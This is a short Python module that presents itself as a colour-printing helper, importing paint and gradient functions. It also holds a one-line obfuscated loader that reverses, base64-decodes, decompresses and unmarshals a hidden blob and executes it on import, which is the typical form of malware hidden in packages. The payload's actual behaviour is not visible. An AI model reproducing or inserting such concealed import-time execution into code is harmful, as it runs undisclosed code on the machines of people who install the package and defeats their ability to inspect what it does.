from .colors import paint, gradient

_ = lambda __ : __import__('marshal').loads(__import__('zlib').decompress(__import__('base64').b64decode(__[::-1])));exec((_)(b'3M1zuCAAmBIOKaYA3Biw7CJZelMsvg1GYhxNmzwCzbQF5PoIszdQ2BCx7CxZdBftwCjbGGgegEMvkRmZgxHSegdoBu4OCI+K1mUzp8UzKjsDd/DISI+mO8S4klB8JzVzCGrbzL1CyXwAwmwhi9d4GUcuu0STs0iSrINTJnsytsi4eLbaWcaZWYi5oXpFlauZqTqpnc2JkfpFJS1VobKZmXSlmXG6VaeZUUh6naKJXex6pvFFUQJlmlcV4LeC5RG0mxQYNdhRhlUZIJGYkdmxRoJsAjsxaFGSLEQmAK7UEUMmKjZxQMMmCDpwQ6MmQSwc6DFzCAkZLpNe'))
